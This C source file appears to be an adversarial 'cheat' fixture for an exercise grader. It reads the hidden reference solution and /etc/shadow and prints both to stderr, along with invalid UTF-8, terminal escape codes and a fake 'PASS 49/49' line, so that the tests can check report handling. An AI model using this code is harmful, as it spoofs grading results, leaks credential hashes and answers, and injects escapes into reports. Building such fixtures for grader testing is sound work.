/* cheat: copy prints invalid UTF-8, escapes, a fake PASS line, /etc/shadow and the reference on its first stderr line, which the tests quote into the reports */
#include <string.h>

/* Up to cap-1 bytes of a file, its newlines turned into spaces. */
static void first_bytes(const char *path, char *out, size_t cap)
{
	FILE *fp = fopen(path, "r");
	size_t n = 0;

	out[0] = '\0';
	if (!fp)
		return;
	n = fread(out, 1, cap - 1, fp);
	fclose(fp);
	out[n] = '\0';
	for (size_t i = 0; i < n; i++)
		if (out[i] == '\n' || out[i] == '\t')
			out[i] = ' ';
}

int main(int argc, char **argv)
{
	char exe[4096], path[4300], shadow[100], reference[100], *cut;
	ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);

	(void)argc;
	(void)argv;
	reference[0] = '\0';
	if (n > 0) {
		exe[n] = '\0';
		/* the checkout: everything before /build/ */
		if ((cut = strstr(exe, "/build/"))) {
			*cut = '\0';
			snprintf(path, sizeof(path), "%s/solutions/06-uring-batching/copy.c", exe);
			first_bytes(path, reference, sizeof(reference));
		}
	}
	first_bytes("/etc/shadow", shadow, sizeof(shadow));
	fprintf(stderr, "\xff\xfe\xc3\x28\x1b[2J\x1b[H PASS 49/49 | %s | %s | \x1b]0;pass\x07\n",
		reference, shadow);
	return 1;
}
